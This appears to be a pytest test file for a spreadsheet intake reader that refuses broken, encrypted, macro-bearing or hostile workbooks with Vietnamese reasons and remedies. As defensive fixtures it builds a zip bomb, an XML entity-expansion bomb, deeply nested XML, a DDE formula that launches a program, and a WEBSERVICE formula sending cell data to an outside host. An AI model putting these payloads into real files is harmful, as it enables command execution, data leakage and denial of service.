"""Files that are broken, protected or hostile are refused within seconds, each with its reason and remedy."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from thidua.record.intake.reading import FileRefused, Limits, read_workbook

LIMITS = Limits(file_mb=5, memory_mb=1024, seconds=10, rows=200_000)
SHEET = "xl/worksheets/sheet1.xml"


def plain_workbook() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Họ và tên", "Số CCCD"])
    book.active.append(["Người Mẫu", "001180000001"])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def rebuilt(changes: dict[str, bytes]) -> bytes:
    """The plain workbook with parts replaced or added."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(plain_workbook())) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, content in changes.items():
            new.writestr(name, content)
    return stream.getvalue()


def sheet_xml(body: bytes, dimension: bytes = b"A1:B2") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="' + dimension + b'"/><sheetData>' + body + b"</sheetData></worksheet>"
    )


def two_million_rows() -> bytes:
    return rebuilt(
        {
            SHEET: sheet_xml(
                b'<row r="1"><c r="A1"><v>1</v></c></row><row r="2000000"><c r="XFD2000000"><v>1</v></c></row>'
            )
        }
    )


def bomb() -> bytes:
    return rebuilt({SHEET: sheet_xml(b" " * 60_000_000)})


def many_entities() -> bytes:
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, (b"&a%d;" % (n - 1)) * 10 if n else b"lol") for n in range(12))
    return rebuilt(
        {
            SHEET: b"<!DOCTYPE x ["
            + entities
            + b']><worksheet><sheetData><row r="1"><c r="A1" t="str"><v>&a11;</v></c></row></sheetData></worksheet>'
        }
    )


def deep_xml() -> bytes:
    return rebuilt({"xl/workbook.xml": b"<a>" * 200_000 + b"</a>" * 200_000})


def encrypted() -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 2000
    )


def formula(text: bytes) -> bytes:
    return rebuilt({SHEET: sheet_xml(b'<row r="1"><c r="B1"><f>' + text + b"</f><v>1</v></c></row>")})


HOSTILE = [
    pytest.param("a.xlsx", b"", "Tệp trống.", id="an empty file"),
    pytest.param("a.xlsx", b"x" * (5 * 1024 * 1024 + 1), "Tệp lớn hơn 5 MB.", id="one byte over the limit"),
    pytest.param("a.xlsx", plain_workbook()[:2000], "Tệp bị hỏng, không mở được.", id="a broken archive"),
    pytest.param("a.xlsx", b"no workbook at all", "Tệp bị hỏng, không mở được.", id="text named as a workbook"),
    pytest.param("a.pdf", b"%PDF-1.7 ...", "Không đọc được loại tệp này.", id="a PDF"),
    pytest.param("a.xlsx", encrypted(), "Tệp được đặt mật khẩu.", id="a password"),
    pytest.param(
        "a.xlsm",
        rebuilt({"xl/vbaProject.bin": b"x"}),
        "Tệp có macro (chương trình chạy kèm), không được nhận.",
        id="macros",
    ),
    pytest.param("a.xlsx", bomb(), "Tệp nén bất thường: mở ra lớn gấp nhiều lần, không được đọc.", id="a bomb"),
    pytest.param(
        "a.xlsx",
        formula(b"cmd|&apos;/C calc&apos;!A0"),
        "Tệp có công thức gọi chương trình hoặc địa chỉ bên ngoài (ô B1).",
        id="a formula that starts a program",
    ),
    pytest.param(
        "a.xlsx",
        formula(b'WEBSERVICE("http://example.org/"&amp;A1)'),
        "Tệp có công thức gọi chương trình hoặc địa chỉ bên ngoài (ô B1).",
        id="a formula that asks the network",
    ),
]


@pytest.mark.parametrize(("name", "content", "problem"), HOSTILE)
def test_a_file_that_cannot_be_taken_says_why_and_what_to_do(name, content, problem, tmp_path: Path):
    path = tmp_path / name
    path.write_bytes(content)

    with pytest.raises(FileRefused) as caught:
        read_workbook(path, name=name, limits=LIMITS)

    assert caught.value.problem == problem
    assert caught.value.remedy


@pytest.mark.parametrize("make", [two_million_rows, many_entities, deep_xml])
def test_a_file_made_to_exhaust_the_reader_is_refused_within_seconds(make, tmp_path: Path):
    path = tmp_path / "a.xlsx"
    path.write_bytes(make())
    start = time.monotonic()

    with pytest.raises(FileRefused):
        read_workbook(path, name="a.xlsx", limits=LIMITS)

    assert time.monotonic() - start < 15


def test_memory_of_the_child_is_limited(tmp_path: Path):
    path = tmp_path / "a.xlsx"
    path.write_bytes(plain_workbook())

    with pytest.raises(FileRefused) as caught:
        read_workbook(path, name="a.xlsx", limits=Limits(file_mb=5, memory_mb=16, seconds=10, rows=1000))

    assert caught.value.problem == "Đọc tệp này tốn quá nhiều bộ nhớ hoặc thời gian nên đã dừng."


def test_more_rows_than_allowed_are_refused_and_as_many_are_read(tmp_path: Path):
    path = tmp_path / "a.csv"
    path.write_text("Họ và tên;Số\n" + "Người Mẫu;1\n" * 99, encoding="utf-8")

    book = read_workbook(path, name="a.csv", limits=Limits(5, 1024, 10, rows=100))
    assert len(book.grids[0].rows) == 100

    with pytest.raises(FileRefused) as caught:
        read_workbook(path, name="a.csv", limits=Limits(5, 1024, 10, rows=99))
    assert caught.value.problem == "Có trang tính khai quá nhiều dòng hoặc cột (tối đa 99 dòng, 256 cột)."


def test_an_ordinary_workbook_is_read_with_its_places(tmp_path: Path):
    path = tmp_path / "a.xlsx"
    path.write_bytes(plain_workbook())

    grid = read_workbook(path, name="a.xlsx", limits=LIMITS).grids[0]

    assert (grid.name, grid.first_row) == ("Sheet", 0)
    assert grid.rows == [["Họ và tên", "Số CCCD"], ["Người Mẫu", "001180000001"]]


def test_hidden_rows_and_columns_and_formulas_without_result_are_noticed(tmp_path: Path):
    book = openpyxl.Workbook()
    for row in (["Họ và tên", "Năm"], ["Người Mẫu", "=2020+3"], ["Người Khác", 2023]):
        book.active.append(row)
    book.active.row_dimensions[3].hidden = True
    book.active.column_dimensions["B"].hidden = True
    path = tmp_path / "a.xlsx"
    book.save(path)

    grid = read_workbook(path, name="a.xlsx", limits=LIMITS).grids[0]

    assert (grid.hidden_rows, grid.hidden_columns, grid.without_value) == ({2}, {1}, {(1, 1)})


def test_a_web_table_saved_as_xls_is_read_with_its_merged_cells(tmp_path: Path):
    path = tmp_path / "a.xls"
    path.write_text(
        "<html><table><tr><th>Họ và tên<th>Năm</tr><tr><td rowspan=2>Người Mẫu<td>2022</tr><tr><td>2023</tr></table>",
        encoding="utf-8",
    )

    grid = read_workbook(path, name="a.xls", limits=LIMITS).grids[0]

    assert grid.name == "table 1"
    assert grid.rows == [["Họ và tên", "Năm"], ["Người Mẫu", "2022"], ["", "2023"]]
    assert grid.merged == ((1, 0, 2, 0),)
